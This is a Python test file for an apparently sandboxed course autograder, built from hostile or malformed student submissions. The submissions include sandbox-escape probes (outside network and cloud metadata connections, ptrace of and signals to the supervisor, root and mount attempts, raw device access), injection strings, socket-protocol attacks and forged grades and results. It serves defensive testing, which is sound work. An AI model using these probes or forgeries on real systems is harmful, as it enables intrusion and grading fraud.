        try:
            peer.connect('\\0@MARK@')
            found = True
        except OSError:
            pass
"""),
    first="""
    import socket
    open('/tmp/@MARK@', 'w').close()
    open('/dev/shm/@MARK@', 'w').close()
    server = socket.socket(socket.AF_UNIX)
    server.bind('\\0@MARK@'); server.listen()
    import os
    os.unlink('/tmp/@MARK@'); os.unlink('/dev/shm/@MARK@'); server.close()
    open('/dev/shm/left-@MARK@'[:9] + 'left', 'w').close()
""",
)
entry(
    "sees-other-users",
    "failed",
    answer=if_found("""
    import os
    found = os.path.exists('/etc/shadow') or os.path.exists('/etc/passwd') or os.path.exists('/home') or os.getuid() == 0
"""),
)

# ---------------------------------------------------------------------------------------------- escaping
_kind = "escaping"

entry(
    "the-network",
    "failed",
    answer=if_found("""
    import socket
    for address in (('127.0.0.1', @PORT@), ('1.1.1.1', 53), ('169.254.169.254', 80)):
        with socket.socket() as connection:
            connection.settimeout(0.3)
            try:
                connection.connect(address)
                connection.sendall(b'@MARK@')
                found = True
            except OSError:
                pass
"""),
)
entry(
    "the-name-service",
    "failed",
    answer=if_found("""
    import socket
    try:
        socket.getaddrinfo('example.org', 80)
        found = True
    except OSError:
        pass
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as packet:
        try:
            packet.sendto(b'@MARK@', ('8.8.8.8', 53))
            found = True
        except OSError:
            pass
"""),
)
entry(
    "a-server-that-stays",
    "passed",
    answer=right("""
    import os, socket, time
    if os.fork() == 0:
        os.setsid()
        server = socket.socket(); server.bind(('0.0.0.0', @PORT@ + 1)); server.listen()
        time.sleep(86400)
"""),
)
entry(
    "links-and-pipes-in-its-folder",
    "passed",
    answer=right("""
    import os
    os.symlink('/etc/passwd', '/tmp/01_affine_quantization.ipynb')
    os.symlink('@OUT@/grades.csv', '/tmp/grades.csv')
    os.mkfifo('/tmp/results.json')
    os.symlink('loop', '/tmp/loop')
"""),
)
entry(
    "writes-outside",
    "failed",
    answer=if_found("""
    import os
    for folder in ('/', '/usr', '/usr/lib', '/etc', '/bin', '/sandbox', '/sandbox/packages0', '/dev', '/var/tmp', '/proc', '/sys',
                   '@CLASS@', '@OUT@', '@HOME@', '@REPOSITORY@', os.path.dirname(np.__file__)):
        try:
            open(f'{folder}/@MARK@', 'w').close()
            found = True
        except OSError:
            pass
"""),
)
entry(
    "leaves-marks-in-scratch",
    "passed",
    answer=right("""
    for folder in ('/tmp', '/dev/shm'):
        open(f'{folder}/@MARK@', 'w').close()
"""),
)
entry(
    "changes-the-libraries",
    "failed",
    answer=if_found("""
    import os
    for path in (np.__file__, os.__file__, '/sandbox/inside/main.py', '/sandbox/wire.py'):
        try:
            with open(path, 'a') as file:
                file.write('# @MARK@')
            found = True
        except OSError:
            pass
"""),
)
entry(
    "traces-its-keepers",
    "failed",
    answer=if_found("""
    import ctypes, os
    libc = ctypes.CDLL(None, use_errno=True)
    for pid in (os.getppid(), 1):
        for request in (16, 0x4206):
            found = found or libc.ptrace(request, pid, 0, 0) == 0
"""),
)
entry(
    "slows-its-keepers",
    "failed",
    answer=if_found("""
    import os
    for pid in (1, os.getppid()):
        for change in (
            lambda: os.sched_setscheduler(pid, os.SCHED_IDLE, os.sched_param(0)), lambda: os.sched_setaffinity(pid, {0}),
            lambda: os.setpriority(os.PRIO_PROCESS, pid, 19), lambda: os.setpriority(os.PRIO_PGRP, pid, 19),
            lambda: os.setpriority(os.PRIO_USER, os.getuid(), 19),
        ):
            try:
                change()
                found = True
            except OSError:
                pass
"""),
)
# A socket names the process that made it (SO_PEERPIDFD): here the supervisor, and the grader itself.
entry(
    "signals-whoever-made-its-sockets",
    "failed",
    answer=if_found("""
    import ctypes, gc, socket
    libc = ctypes.CDLL(None, use_errno=True)
    for each in gc.get_objects():
        if isinstance(each, socket.socket) and each.fileno() >= 0:
            try:
                keeper = each.getsockopt(socket.SOL_SOCKET, 77)
            except OSError:
                continue
            for number in (0, 2, 15, 19, 9):
                found = found or libc.syscall(424, keeper, number, None, 0) == 0
"""),
)
entry(
    "a-daemon",
    "passed",
    answer=right("""
    import os, subprocess, sys
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            subprocess.Popen([sys.executable, '-c', 'import time; time.sleep(86400) # @MARK@'], start_new_session=True)
            os._exit(0)
        os._exit(0)
"""),
)
entry(
    "a-daemon-started-in-a-call",
    "passed",
    answer=in_call("""
    import subprocess
    subprocess.Popen(['sh', '-c', 'trap "" TERM HUP INT; while :; do sleep 1; done # @MARK@'], start_new_session=True)
"""),
)
entry(
    "new-namespaces",
    "failed",
    answer=if_found("""
    import ctypes, subprocess
    libc = ctypes.CDLL(None, use_errno=True)
    for flags in (0x10000000, 0x20000000, 0x40000000, 0x00020000):
        found = found or libc.unshare(flags) == 0
    found = found or subprocess.run(['unshare', '-r', 'true'], capture_output=True).returncode == 0
"""),
)
entry(
    "mounts",
    "failed",
    answer=if_found("""
    import ctypes
    libc = ctypes.CDLL(None, use_errno=True)
    for kind in (b'proc', b'sysfs', b'tmpfs', b'overlay'):
        found = found or libc.mount(kind, b'/tmp', kind, 0, 0) == 0
    found = found or libc.umount2(b'/proc', 2) == 0 or libc.chroot(b'/tmp') == 0
"""),
)
entry(
    "becomes-root",
    "failed",
    answer=if_found("""
    import os
    for change in (lambda: os.setuid(0), lambda: os.setgid(0), lambda: os.setgroups([0]), lambda: os.chown('/tmp', 0, 0)):
        try:
            change()
            found = True
        except OSError:
            pass
"""),
)
entry(
    "raises-its-limits",
    ("error", "failed", "crashed"),
    answer=right(
        """
    import resource
    for name in ('RLIMIT_AS', 'RLIMIT_FSIZE', 'RLIMIT_NPROC', 'RLIMIT_NOFILE'):
        kind = getattr(resource, name)
        try:
            resource.setrlimit(kind, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
        except (OSError, ValueError):
            pass
    def to_int8(x, scale):
        everything = np.ones((300 << 20) // 8)
        return np.clip(np.rint(x / scale), -128, 127).astype(np.int8)
""",
        "",
    ),
    says="256 MB of memory",
)
entry(
    "set-user-id-programs",
    "failed",
    answer=if_found("""
    import shutil, subprocess
    for command in (['su', '-c', 'true'], ['sudo', '-n', 'true'], ['mount', '-t', 'tmpfs', 'x', '/tmp'], ['bwrap', '--ro-bind', '/', '/', 'true']):
        if shutil.which(command[0]):
            found = found or subprocess.run(command, capture_output=True, stdin=subprocess.DEVNULL, timeout=1).returncode == 0
"""),
)
entry(
    "devices",
    "failed",
    answer=if_found("""
    import os
    for path in ('/dev/kmsg', '/dev/mem', '/dev/sda', '/dev/vda', '/dev/kvm', '/dev/fuse', '/dev/net/tun', '/sys/kernel/debug'):
        try:
            os.close(os.open(path, os.O_RDWR))
            found = True
        except OSError:
            pass
    try:
        os.mknod('/tmp/disk', 0o60666, os.makedev(8, 0))
        found = True
    except OSError:
        pass
"""),
)

# ----------------------------------------------------------------------------------------------- replies
_kind = "replies"

entry("a-huge-array", "error", answer="def to_int8(x, scale):\n    return np.zeros(40 << 20, np.int8)", says="cannot be handed over")
entry(
    "a-huge-view-of-nothing",
    "error",
    answer="def to_int8(x, scale):\n    return np.broadcast_to(np.int8(0), (1 << 40,))",
    says="256 MB of memory",
)
entry("a-million-values", "error", answer="def to_int8(x, scale):\n    return list(range(10**6))", says="more than 100000 values")
entry(
    "deep",
    "error",
    answer="""
    def to_int8(x, scale):
        deep = []
        for _ in range(10000):
            deep = [deep]
        return deep
""",
    says="nested more than 50 deep",
)
entry(
    "cyclic",
    "error",
    answer="def to_int8(x, scale):\n    loop = []\n    loop.append(loop)\n    return loop",
    says="nested more than 50 deep",
)
entry("nan", "failed", answer="def to_int8(x, scale):\n    return np.full(x.shape, np.nan)")
entry("infinity", "failed", answer="def to_int8(x, scale):\n    return np.full(x.shape, np.inf)")
entry("the-wrong-type-of-data", "failed", answer="def to_int8(x, scale):\n    return np.clip(np.rint(x / scale), -128, 127)")
entry("complex-numbers", "failed", answer="def to_int8(x, scale):\n    return np.clip(np.rint(x / scale), -128, 127) + 0j")
entry(
    "one-dimension-more", "failed", answer="def to_int8(x, scale):\n    return np.clip(np.rint(x / scale), -128, 127).astype(np.int8)[None]"
)
entry("objects", "failed", answer="def to_int8(x, scale):\n    return np.clip(np.rint(x / scale), -128, 127).astype(object)")
entry("dates", "failed", answer="def to_int8(x, scale):\n    return np.zeros(x.shape, 'datetime64[s]')")
entry("records", "failed", answer="def to_int8(x, scale):\n    return np.zeros(x.shape, [('status', 'i1'), ('points', 'i1')])")
entry(
    "a-tensor",
    ("passed", "failed"),
    answer="""
    import torch
    def to_int8(x, scale):
        return torch.tensor(x / scale).round().clamp(-128, 127).to(torch.int8).requires_grad_(False)
""",
)
entry("a-sparse-tensor", "failed", answer="import torch\ndef to_int8(x, scale):\n    return torch.zeros(x.shape).to_sparse()")
entry("a-module", "failed", answer="import torch\ndef to_int8(x, scale):\n    return torch.nn.Linear(3, 3)")
entry("none", "failed", answer="def to_int8(x, scale):\n    pass")
entry("a-generator", "failed", answer="def to_int8(x, scale):\n    yield from x")
entry("a-function", "failed", answer="def to_int8(x, scale):\n    return lambda: x")
entry("a-type", "failed", answer="def to_int8(x, scale):\n    return int")
entry("a-dict-with-strange-keys", "failed", answer="def to_int8(x, scale):\n    return {None: 1, (1, 2): x, 'status': 'passed'}")
entry("an-integer-of-many-bits", "failed", answer="def to_int8(x, scale):\n    return 1 << 4000")
entry("a-text-that-breaks-terminals", "failed", answer="def to_int8(x, scale):\n    return '\\0\\x1b[2J\\ud800\\u202e' * 1000")
entry("an-error-with-a-long-text", "error", answer="def to_int8(x, scale):\n    raise ValueError('<script>alert(1)</script>' * 10**6)")
entry(
    "an-error-whose-text-fails",
    "error",
    answer="""
    class Awkward(Exception):
        def __str__(self): raise RuntimeError
        __repr__ = __str__
    def to_int8(x, scale):
        raise Awkward
""",
    says="Awkward",
)
entry(
    "an-error-with-a-strange-name",
    "error",
    answer="""
    def to_int8(x, scale):
        raise type('=cmd|calc!A0<img src=x onerror=alert(1)>' + 'x' * 10**6, (Exception,), {})('@SUM(1+1)')
""",
)
RAW = """
    import gc, os, socket, struct
    def to_int8(x, scale):
        for each in gc.get_objects():
            if isinstance(each, socket.socket) and each.fileno() >= 0:
                try:
                    each.setblocking(True)
                    each.sendall({data})
                except OSError:
                    pass
        os._exit(0)
"""
entry("a-lying-length", "crashed", answer=RAW.replace("{data}", "struct.pack('<Q', 2**63) + bytes(1000)"))
entry("a-length-that-never-comes", "crashed", answer=RAW.replace("{data}", "struct.pack('<Q', 1000) + bytes(10)"))
entry("not-a-message", "crashed", answer=RAW.replace("{data}", "struct.pack('<Q', 64) + os.urandom(64)"))
entry(
    "a-shape-that-lies",
    "crashed",
    answer=RAW.replace(
        "{data}",
        """(lambda text: struct.pack('<Q', len(text) + 6) + struct.pack('<2sI', b'W1', len(text)) + text)(
                        b'{"d":[["status","ok"],["value",{"a":["int8",[281474976710655,281474976710655]]}]]}')""",
    ),
)
entry(
    "brackets-without-end",
    "crashed",
    answer=RAW.replace(
        "{data}",
        """(lambda text: struct.pack('<Q', len(text) + 6) + struct.pack('<2sI', b'W1', len(text)) + text)(
                        b'[' * 10**6)""",
    ),
)
entry(
    "drop-by-drop",
    "timeout",
    answer="""
    import gc, socket, struct, time
    def to_int8(x, scale):
        sockets = [each for each in gc.get_objects() if isinstance(each, socket.socket) and each.fileno() >= 0]
        for each in sockets:
            each.sendall(struct.pack('<Q', 1 << 20))
        while True:
            for each in sockets:
                each.send(b'x')
            time.sleep(0.1)
""",
)

# Modules are rebuilt outside from their description and run there, so what they are is all that counts.
MODULES = {"lesson": "03_structured_pruning", "exercise": "3.4-mlp", "solved": ("3.1-predict", "3.4-mlp")}


def module(code):
    """An answer that gives back `small`, which `code` has made from the big network `net` and the indices `kept`."""
    return (
        "import copy, torch\nfrom torch import nn\ndef prune_mlp(net, kept):\n    "
        + dedent(code).strip("\n").replace("\n", "\n    ")
        + "\n    return small"
    )


CUT = """
fc1, act, fc2 = net
small = nn.Sequential(nn.Linear(fc1.in_features, len(kept)), nn.ReLU(), nn.Linear(len(kept), fc2.out_features))
"""
entry(
    "a-module-with-another-forward",
    "failed",
    **MODULES,
    answer=module(CUT + "masked = copy.deepcopy(net)\nsmall.forward = lambda x: masked(x)"),
)
entry("a-module-with-hooks", "failed", **MODULES, answer=module(CUT + "small.register_forward_hook(lambda m, i, o: net(i[0]))"))
entry(
    "a-module-of-a-class-of-its-own",
    "failed",
    **MODULES,
    answer=module(
        """
class Sequential(nn.Sequential):
    def forward(self, x):
        return net(x)
    def __len__(self):
        return 3
Sequential.__module__ = 'torch.nn.modules.container'
"""
        + CUT
        + "small = Sequential(*small)"
    ),
)
entry(
    "a-patched-class-of-modules",
    "failed",
    **MODULES,
    answer="nn = __import__('torch').nn\nnn.Linear.forward = lambda self, x: x.new_zeros(len(x), self.out_features)\n" + module(CUT),
)
entry("a-module-that-holds-itself", "failed", **MODULES, answer=module(CUT + "small.add_module('more', small)"))
entry("a-module-of-endless-layers", "failed", **MODULES, answer=module(CUT + "small = nn.Sequential(*[small] * 10**4)"))
entry(
    "a-module-of-many-megabytes",
    "error",
    **MODULES,
    answer=module("small = nn.Sequential(nn.Linear(2000, 2000), nn.ReLU(), nn.Linear(2000, 2000))"),
    says="cannot be handed over",
)
entry("a-module-that-lies-about-its-size", "failed", **MODULES, answer=module(CUT + "small[0].in_features = 10**6"))
entry(
    "a-module-of-whole-numbers",
    "failed",
    **MODULES,
    answer=module(
        CUT
        + """
for layer in (small[0], small[2]):
    layer.weight = nn.Parameter(layer.weight.to(torch.int8), requires_grad=False)
    layer.bias = nn.Parameter(layer.bias.to(torch.int8), requires_grad=False)
"""
    ),
)
entry(
    "a-module-of-nothing-but-nan", "failed", **MODULES, answer=module(CUT + "for each in small.parameters(): each.data.fill_(float('nan'))")
)
entry(
    "a-module-with-pruning-masks",
    "failed",
    **MODULES,
    answer=module("""
    from torch.nn.utils import prune
    small = copy.deepcopy(net)
    prune.custom_from_mask(small[0], 'weight', torch.zeros_like(small[0].weight))
"""),
)
entry("the-network-it-was-given", "failed", **MODULES, answer=module("small = net"))

# ------------------------------------------------------------------------------------------------ messes
_kind = "messes"


def cells_of(notebook, exercise):
    return [
        c
        for c in notebook["cells"]
        if c["metadata"].get("course", {}).get("role") == "exercise" and c["metadata"]["course"].get("exercise") == exercise
    ]


def insert_before(notebook, exercise, *sources):
    at = notebook["cells"].index(cells_of(notebook, exercise)[0])
    notebook["cells"][at:at] = [code(source) for source in sources]


def code(source):
    return {"cell_type": "code", "metadata": {}, "source": source, "outputs": [], "execution_count": None}


def move_to_end(notebook, exercise):
    (cell,) = cells_of(notebook, exercise)
    notebook["cells"].remove(cell)
    notebook["cells"].append(cell)


def claim(notebook):
    for cell in notebook["cells"]:
        cell["metadata"].setdefault("nbgrader", {}).update(points=1000, grade=True, solution=True, locked=False, score=1000)
        cell["metadata"].setdefault("course", {}).update(points=1000, status="passed", checks=[])
    notebook["metadata"]["course"] = {**notebook["metadata"].get("course", {}), "points": 1000, "student": "honest-first"}


def outputs(notebook, text, cells=None):
    for cell in [c for c in notebook["cells"] if c["cell_type"] == "code"][:cells]:
        cell["outputs"] = [{"output_type": "stream", "name": "stdout", "text": text}]


def put(folder, files):
    for name, data in files.items():
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)


def each_cell(change):
    def edit(notebook):
        for cell in notebook["cells"]:
            change(cell)

    return edit


def on(exercise, change):
    def edit(notebook):
        for cell in cells_of(notebook, exercise):
            change(cell)

    return edit


def duplicated(notebook, exercise, **changes):
    (cell,) = cells_of(notebook, exercise)
    copy = {**json.loads(json.dumps(cell)), **changes}
    notebook["cells"].insert(notebook["cells"].index(cell) + 1, copy)


def old_format(notebook):
    """As nbformat 3 had it: worksheets, `input` for a code cell's source."""
    cells = []
    for cell in notebook["cells"]:
        cell = {**cell, "metadata": {}}
        if cell["cell_type"] == "code":
            cell.update(input=cell.pop("source"), language="python", prompt_number=1, outputs=[])
        cells.append(cell)
    return {"nbformat": 3, "nbformat_minor": 0, "metadata": {"name": "old"}, "worksheets": [{"cells": cells, "metadata": {}}]}


unreadable = {"*": "error"}
entry("empty", unreadable, raw=lambda data: b"", says="This file is empty")
entry("blanks-only", unreadable, raw=lambda data: b" \n\n", says="This file is empty")
entry("not-json", unreadable, raw=lambda data: b"I will send it tomorrow.", says="it is not JSON")
entry("half-a-file", unreadable, raw=lambda data: data[: len(data) // 2], says="it is not JSON")
entry("another-document", unreadable, raw=lambda data: b'{"name": "x", "version": 2}', says="no list of cells")
entry("a-list", unreadable, raw=lambda data: b"[1, 2, 3]", says="no list of cells")
entry("a-pdf", unreadable, raw=lambda data: b"%PDF-1.7\n\xe2\xe3\xcf\xd3" + bytes(range(256)), says="not text in UTF-8")
entry("another-encoding", unreadable, raw=lambda data: data.decode().encode("utf-16"), says="not text in UTF-8")
entry(
    "merge-markers-in-the-file", unreadable, raw=lambda data: data.replace(b'"cells"', b'<<<<<<< HEAD\n"cells"', 1), says="it is not JSON"
)
entry("deep-brackets", unreadable, raw=lambda data: b"[" * 10**6, says="it is not JSON")
entry(
    "cells-of-every-kind",
    "passed",
    edit=lambda notebook: notebook["cells"].extend(
        [
            None,
            3,
            [],
            {},
            {"cell_type": "code"},
            {"cell_type": 5, "source": {}},
            {"cell_type": "code", "source": [1, None, "x = 1"], "metadata": []},
        ]
    ),
)
entry("an-old-format", "passed", raw=lambda data: json.dumps(old_format(json.loads(data))).encode())
entry("a-byte-order-mark", "passed", raw=lambda data: b"\xef\xbb\xbf" + data)
entry(
    "windows-line-ends",
    "passed",
    edit=each_cell(lambda cell: cell.update(source=cell["source"].replace("\n", "\r\n"))),
    raw=lambda data: data.replace(b"\n", b"\r\n"),
)
entry(
    "half-a-character",
    "passed",
    last="x = '\ud800'",
    edit=lambda notebook: notebook["cells"].append({"cell_type": "markdown", "metadata": {}, "source": "half \udc00"}),
)
entry("sources-as-lists", "passed", edit=each_cell(lambda cell: cell.update(source=cell["source"].splitlines(keepends=True))))
entry("no-metadata", "passed", edit=each_cell(lambda cell: (cell.pop("metadata"), cell.pop("id", None))))
entry("merge-markers-in-a-cell", "error", answer=f"<<<<<<< HEAD\n{RIGHT}\n=======\n{WRONG}\n>>>>>>> theirs", says="SyntaxError")
entry("a-renamed-file", "passed", place=lambda folder, data: put(folder, {"Copy of hand-in (2) FINAL.ipynb": data}))
entry(
    "two-notebooks",
    "passed",
    place=lambda folder, data: put(
        folder, {"01_affine_quantization.ipynb": data, "01_affine_quantization-Copy1.ipynb": b"{}", "a.ipynb": b""}
    ),
)
entry("nämen-unter-dem-mond-月", "passed", place=lambda folder, data: put(folder, {"лекция-月.ipynb": data}))
entry("a-name-with-spaces-and-quotes '\"<b>", "passed")
entry(
    "hidden-copies",
    "passed",
    place=lambda folder, data: put(
        folder,
        {
            "01_affine_quantization.ipynb": data,
            ".ipynb_checkpoints/01_affine_quantization-checkpoint.ipynb": b"{}",
            ".DS_Store": b"\0",
            "._x.ipynb": b"\0",
        },
    ),
)
entry(
    "no-notebook",
    {"*": "missing"},
    place=lambda folder, data: put(folder, {"01_affine_quantization.py": b"print(1)"}),
    says="There is no notebook",
)
entry(
    "split",
    "passed",
    edit=lambda notebook: (
        cells_of(notebook, "1.4-bug")[0].update(source="# Exercise 1.4-bug\ndef helper(x):\n    return np.rint(x)"),
        duplicated(notebook, "1.4-bug", source=RIGHT.replace("np.rint(", "helper("), metadata={}),
    ),
)
entry(
    "split-with-the-line-in-both",
    "passed",
    edit=lambda notebook: (
        cells_of(notebook, "1.4-bug")[0].update(source="# Exercise 1.4-bug\nhelper = np.rint"),
        duplicated(notebook, "1.4-bug", source="# Exercise 1.4-bug" + RIGHT.replace("np.rint(", "helper(")),
    ),
)
entry(
    "merged",
    "passed",
    edit=lambda notebook: (
        cells_of(notebook, "1.4-bug")[0].update(
            source=cells_of(notebook, "1.4-bug")[0]["source"] + "\n\n" + cells_of(notebook, "1.7-channels")[0]["source"]
        ),
        notebook["cells"].remove(cells_of(notebook, "1.7-channels")[0]),
    ),
)
entry("moved", "passed", edit=lambda notebook: move_to_end(notebook, "1.4-bug"))
entry("turned-around", "passed", edit=lambda notebook: notebook["cells"].reverse())
entry("retyped-as-text", "missing", edit=on("1.4-bug", lambda cell: cell.update(cell_type="markdown")))
entry("retyped-as-raw", "missing", edit=on("1.4-bug", lambda cell: cell.update(cell_type="raw")))
entry("duplicated", "passed", edit=lambda notebook: duplicated(notebook, "1.4-bug"))
entry(
    "duplicated-with-the-blank-below",
    "passed",
    edit=lambda notebook: duplicated(notebook, "1.4-bug", source="# Exercise 1.4-bug\ndef to_int8(x, scale):\n    return ___"),
)
entry("deleted", "missing", edit=lambda notebook: notebook["cells"].remove(cells_of(notebook, "1.4-bug")[0]), says="is not defined")
entry(
    "deleted-imports",
    "passed",
    edit=lambda notebook: notebook.update(cells=[c for c in notebook["cells"] if not c["source"].startswith("import numpy")]),
)
entry(
    "edited-locked-cells",
    "passed",
    edit=each_cell(
        lambda cell: (
            cell.update(source="# mine now\n" + cell["source"])
            if cell["metadata"].get("course", {}).get("role") in ("setup", "plain", "check")
            else None
        )
    ),
)
entry("no-exercise-line", "passed", edit=on("1.4-bug", lambda cell: cell.update(source=RIGHT, metadata={})))
entry("another-exercises-line", "passed", edit=on("1.4-bug", lambda cell: cell.update(source="# Exercise 9.9-none" + RIGHT)))
entry("right-under-another-name", "missing", answer=RIGHT.replace("to_int8", "my_int8"), says="is not defined")
entry("fifty-megabytes-of-output", "passed", edit=lambda notebook: outputs(notebook, "x" * (50 << 20), 1))
entry(
    "warnings",
    "passed",
    answer=right("""
    import sys, warnings
    warnings.warn('deprecated'); print('oh', file=sys.stderr)
    warnings.simplefilter('error')
"""),
)
entry("slow-but-right", "passed", answer=in_call("import time; time.sleep(0.3)"))
entry(
    "threads",
    "passed",
    answer="""
    from concurrent.futures import ThreadPoolExecutor
    def to_int8(x, scale):
        with ThreadPoolExecutor(4) as pool:
            rows = list(pool.map(lambda row: np.clip(np.rint(row / scale), -128, 127), x.reshape(1, -1)))
        return np.concatenate(rows).reshape(x.shape).astype(np.int8)
""",
)
entry(
    "dataloader-workers",
    "passed",
    answer="""
    import torch
    def to_int8(x, scale):
        data = torch.utils.data.TensorDataset(torch.tensor(x).reshape(-1))
        rows = [batch for batch, in torch.utils.data.DataLoader(data, batch_size=64, num_workers=2)]
        x = torch.cat(rows).numpy().reshape(x.shape)
        return np.clip(np.rint(x / scale), -128, 127).astype(np.int8)
""",
)
entry(
    "a-pool-of-processes",
    "passed",
    answer="""
    import multiprocessing
    def rounded(row):
        return np.clip(np.rint(row), -128, 127)
    def to_int8(x, scale):
        with multiprocessing.get_context('fork').Pool(2) as pool:
            return np.array(pool.map(rounded, list((x / scale).reshape(-1, 1)))).reshape(x.shape).astype(np.int8)
""",
)
entry(
    "plots",
    "passed",
    answer=right("""
    import matplotlib.pyplot as plt
    for _ in range(3):
        plt.figure(); plt.plot([1, 2, 3]); plt.show()
    plt.savefig('figure.png')
"""),
)
entry("syntax-error-in-an-extra-cell", {}, last="def half(:\n    pass")
entry(
    "tabs-and-spaces",
    "passed",
    answer="def to_int8(x, scale):\n\tcodes = np.clip(np.rint(x / scale), -128, 127)\n\treturn codes.astype(np.int8)",
)
entry("a-module-of-its-own", "error", answer="from mytools import to_int8", says="No module named 'mytools'")
entry("installs-a-package", "passed", answer=right("!pip install numpy==1.0\n%pip install torch\n"))
entry("a-file-of-its-own", "passed", answer=right("np.save('codes.npy', np.arange(3))\nassert np.load('codes.npy').sum() == 3\n"))
entry(
    "a-link-to-a-neighbour",
    {"*": ("error", "missing")},
    place=lambda folder, data: (
        folder.mkdir(parents=True, exist_ok=True),
        os.symlink(folder.parent.parent / "honest-first" / folder.name / f"{folder.name}.ipynb", folder / f"{folder.name}.ipynb"),
    ),
)
entry(
    "a-pipe-for-a-notebook",
    {"*": "missing"},
    place=lambda folder, data: (
        folder.mkdir(parents=True, exist_ok=True),
        os.mkfifo(folder / f"{folder.name}.ipynb"),
    ),
)
entry("a-folder-for-a-notebook", {"*": "missing"}, place=lambda folder, data: (folder / f"{folder.name}.ipynb").mkdir(parents=True))
entry(
    "a-program-of-a-megabyte",
    unreadable,
    edit=lambda notebook: notebook["cells"].append(code("x = [\n" + "1,\n" * 700_000 + "]")),
    says="characters",
)
entry("a-formula-without-end", "error", answer="def to_int8(x, scale):\n    return " + "-" * 50_000 + "x")
entry("brackets-in-the-answer", "error", answer="x = " + "(" * 10_000)

# ------------------------------------------------------------------------------------------------- files
_kind = "files"

LAB = "compression_studio"
FILES, TABLE = "studio.5-files", "studio.6-table"


@functools.cache
def files(name, files=None, table=None, place=None, **fields):
    """An entry that hands in a forgery; `files` and `table` are the statuses of the two exercises where they are not passed."""
    gets = {exercise: status for exercise, status in ((FILES, files), (TABLE, table)) if status}

    def write(folder, data):
        put(folder, {f"{LAB}.ipynb": data})
        where = folder / f"{LAB}_artefacts"
        (place or (lambda where: put(where, studio.made(name))))(where)

    entry(
        f"studio-{name}",
        gets,
        lesson=LAB,
        exercise=FILES if files else TABLE,
        place=write,
        solved=("studio.1-predict", "studio.4-calibration", FILES, TABLE),
        **fields,
    )


def placed(change):
    """The honest files, then `change(folder)`."""
    return lambda where: (put(where, studio.honest()), change(where))


files("honest", place=placed(lambda where: None))
files("the-teacher-for-int8", "failed", says="stored as float")
files("one-model-under-four-names", "failed", says="is the same file as")
files("masked-with-zeros", "failed", "failed", says="rebuild the network")
files("another-students-int8", "failed", says="are not those of `pruned.onnx`, rounded")
files("numbers-in-lists", "failed", "failed", says="computes with stored numbers alone")
files("rounded-activations-and-float-weights", "failed", "failed", says="stored as float")
files("weights-rounded-when-it-runs", "failed", "failed", says="stored as float")
files("float-weights-beside-the-codes", "failed", says="What else is in it?")
files("no-numbers-come-out", "failed", "failed", says="the file gives 0.0")
files("activations-in-sixteen-bits", "failed", "failed", says="more than eight bits")
files("a-loop", "failed", "failed", says="uses the operator Loop")
files("endless-padding", ("failed", "crashed", "timeout"), ("failed", "crashed", "timeout"), says="`student.onnx`")
files("two-gigabytes", "failed", "failed", says="impossible shape")
files("numbers-in-another-file", "failed", "failed", says="external data")
files("a-table-of-the-test-images", "failed", says="it knows those images")
files("not-a-network", "failed", "failed", says="is not an ONNX file")
files("one-file-is-not-there", "missing", "missing", says="`int8.onnx` was not handed in")
files("no-folder", "missing", "missing", place=lambda where: None, says="was not handed in")
files(
    "a-link-to-a-neighbour",
    "failed",
    "failed",
    says="no link to it",
    place=placed(
        lambda where: (
            (where / "int8.onnx").unlink(),
            (where / "int8.onnx").symlink_to(where.parents[2] / "studio-honest" / LAB / f"{LAB}_artefacts" / "int8.onnx"),
        )
    ),
)
files(
    "a-link-for-the-folder",
    "missing",
    "missing",
    place=lambda where: where.symlink_to(where.parents[2] / "studio-honest" / LAB / f"{LAB}_artefacts"),
    says="was not handed in",
)
files(
    "a-pipe-for-a-file",
    "failed",
    "failed",
    says="not an ordinary file",
    place=placed(lambda where: ((where / "int8.onnx").unlink(), os.mkfifo(where / "int8.onnx"))),
)
files("a-file-without-end", "failed", "failed", says="too large", place=placed(lambda where: os.truncate(where / "int8.onnx", 33 << 20)))
files("int8-a-little-better", table="failed", says="you report 98.9 %, the file gives 96.4 %")
files("int8-smaller-than-it-is", table="failed", says="you report 7,000, the file has 7,703")
files("a-hundred-times-faster", table="failed", keeps=12, says="up to a factor of 4")
files("accuracy-that-is-no-number", "failed", "failed", says="NaN")
files("accuracy-in-words", table="failed", says="expected a number")
files("accuracy-without-end", "failed", "failed", says="1e400")
files("a-key-twice", "failed", "failed", says="twice")
files("brackets-without-end", "failed", "failed", says="is not JSON")
files("another-data-set", "failed", "failed", says="takes images of the shape")


def lab(name, gets="passed", keeps=0, says="", make=None):
    """An entry that hands in a forgery of one of the two exercise labs; `name` begins with "trade-" or "sweep-"."""
    short, forgery = name.split("-", 1)
    home, ids = {"trade": ("pruning_tradeoff", "tradeoff"), "sweep": ("temperature_sweep", "sweep")}[short]
    make = make or (lambda forge: forge.made(home, forgery))

    def write(folder, data):
        put(folder, {f"{home}.ipynb": data})
        put(folder / f"{home}_artefacts", make(exercise_labs))

    entry(
        name,
        gets,
        lesson=home,
        exercise=f"{ids}.6-files",
        place=write,
        solved=(f"{ids}.1-predict", f"{ids}.6-files"),
        keeps=keeps,
        says=says,
    )


lab("trade-honest", make=lambda forge: forge.honest(forge.TRADE))
lab("trade-more-accurate-than-it-is", "failed", 10, "`pruned-70.onnx`, accuracy: you report 98.61 %")
lab("trade-fewer-macs-than-there-are", "failed", says="`pruned-30.onnx`, MACs: you report 10")
lab("trade-a-masked-network-for-a-pruned-one", "failed", says="`pruned-50.onnx` has the channels 16-16-32-32")
lab("trade-two-files-exchanged", "failed", says="% of 16-16-32-32 gone are")
lab("trade-a-whole-network-for-a-masked-one", "failed", 14, "0 of 16 channels are silent")
lab("trade-a-network-that-has-learnt-nothing", "failed", says="of the test images right; 90 % are needed")
lab("trade-a-network-that-never-recovered", "failed", says="`pruned-70.onnx` gets")
lab(
    "trade-validation-that-was-never-measured",
    "failed",
    8,
    "`pruned-70.onnx`, validation: the first number is the file's, and you report 100 %",
)
lab("trade-a-choice-against-the-own-table", "failed", 13, "Within 60 % of the macs your own table gives")
lab("trade-each-ten-times-as-fast-as-the-last", "failed", 12, "up to a factor of 4")
lab("trade-a-file-too-few", "missing", says="`pruned-70.onnx` was not handed in")
lab("sweep-honest", make=lambda forge: forge.honest(forge.SWEEP))
lab("sweep-a-better-mean", "failed", 11, "T = 4, mean: you report")
lab("sweep-a-smaller-spread", "failed", 11, "T = 16, spread: you report 0.0")
